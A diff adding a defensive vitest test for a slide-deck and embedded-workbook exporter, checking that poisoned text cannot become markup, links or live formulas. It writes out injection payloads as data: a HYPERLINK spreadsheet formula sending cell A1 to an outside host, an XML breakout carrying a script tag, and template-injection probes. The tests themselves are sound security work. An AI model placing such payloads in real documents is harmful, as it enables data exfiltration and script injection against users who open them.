@@ -1,0 +1,65 @@
+import { beforeAll, describe, expect, it } from 'vitest'
+import { makeDeck } from '../../../src/exports/pptx/deck'
+import { compilePanel } from '../../../src/charts/compile'
+import type { ValidPanel } from '../../../src/charts/index'
+import type { Dataset } from '../../../src/model/dataset'
+import { chartsOf, malformed, partsOf, relationsOf, seriesOf, textOf, textsOf, type Parts } from './office-package'
+import { dataset, panelNamed, slideJob, TOOLS } from './slide-jobs'
+
+const FORMULA = '=HYPERLINK("http://example.org/?"&A1,"here")'
+const MARKUP = '</a:t></a:r><a:t>&lt;&amp;]]> "quoted" \'single\' <script>alert(1)</script>'
+const UNPRINTABLE = 'null\u0000 bell\u0007 half\ud83d end\uffff'
+const text = (one: string) => ({ zh: one, en: one })
+
+/** The shipped data with names as somebody else's file may bring them. */
+const poisoned: Dataset = {
+  ...dataset,
+  version: '2026.11.0"><x',
+  sources: new Map([...dataset.sources].map(([id, source]) => [id, { ...source, title: text(MARKUP + UNPRINTABLE), body: text('{{7*7}}$&$1') }])),
+  regions: new Map([...dataset.regions].map(([id, region]) => [id, id === 'CN-GD' ? { ...region, short: text('@SUM(A1)<b>') } : region])),
+}
+
+const trend = panelNamed('floating-population')
+const panel = {
+  ...trend,
+  title: { zh: [`${MARKUP}${UNPRINTABLE}`], en: [MARKUP] },
+  subtitle: text(`+1${MARKUP}`),
+  notes: [text(`-2${MARKUP}${UNPRINTABLE}`)],
+  grids: [{ zero: true, heading: text(MARKUP), lines: [{ indicator: 'floating_pop', label: text(FORMULA) }, { indicator: 'hukou_separated', label: text(MARKUP + UNPRINTABLE) }] }],
+} as unknown as ValidPanel
+
+describe('text from data on slides', () => {
+  let parts: Parts = {}
+
+  beforeAll(async () => {
+    const jobs = [slideJob(panel, {}, poisoned), slideJob(panelNamed('province-population'), {}, poisoned)]
+    parts = partsOf((await makeDeck(jobs, { title: `${MARKUP}${UNPRINTABLE}`, date: '<i>' }, TOOLS)).bytes)
+  })
+
+  it('never becomes markup: every part stays well-formed', () => {
+    for (const name of Object.keys(parts).filter((part) => /\.(?:xml|rels)$/.test(part))) expect(malformed(textOf(parts, name)), name).toBe('')
+    const slide = textOf(parts, 'ppt/slides/slide2.xml')
+    expect(slide).not.toMatch(/<script|<x\b/)
+    const title = compilePanel(panel, poisoned, { language: 'zh', scheme: 'light', width: 960 }).title
+    expect(title).toContain('<script>')
+    expect(textsOf(slide, 'a:t').some((told) => told.includes(MARKUP))).toBe(true)
+  })
+
+  it('makes no link and no relationship to elsewhere', () => {
+    for (const name of Object.keys(parts).filter((part) => part.endsWith('.rels'))) expect(textOf(parts, name)).not.toContain('External')
+    for (const name of Object.keys(parts).filter((part) => part.startsWith('ppt/slides/'))) expect(textOf(parts, name)).not.toContain('hlinkClick')
+    expect(relationsOf(parts).every(({ to }) => parts[to] !== undefined)).toBe(true)
+  })
+
+  it('a name that looks like a formula is text in the chart and in its workbook', () => {
+    const [chart = ''] = chartsOf(parts)
+    expect(seriesOf(chart)[0]?.name.startsWith(FORMULA)).toBe(true)
+    const book = partsOf(parts['ppt/embeddings/Microsoft_Excel_Worksheet1.xlsx'] ?? new Uint8Array())
+    for (const name of Object.keys(book)) expect(malformed(textOf(book, name)), name).toBe('')
+    const sheet = textOf(book, 'xl/worksheets/sheet1.xml')
+    expect(sheet).not.toContain('<f>')
+    expect(sheet).toContain('<c r="B1" s="1" t="s">')
+    expect(textsOf(textOf(book, 'xl/sharedStrings.xml'), 't')[1]?.startsWith(FORMULA)).toBe(true)
+    expect(textOf(book, 'xl/styles.xml')).toContain('numFmtId="49"')
+  })
+})
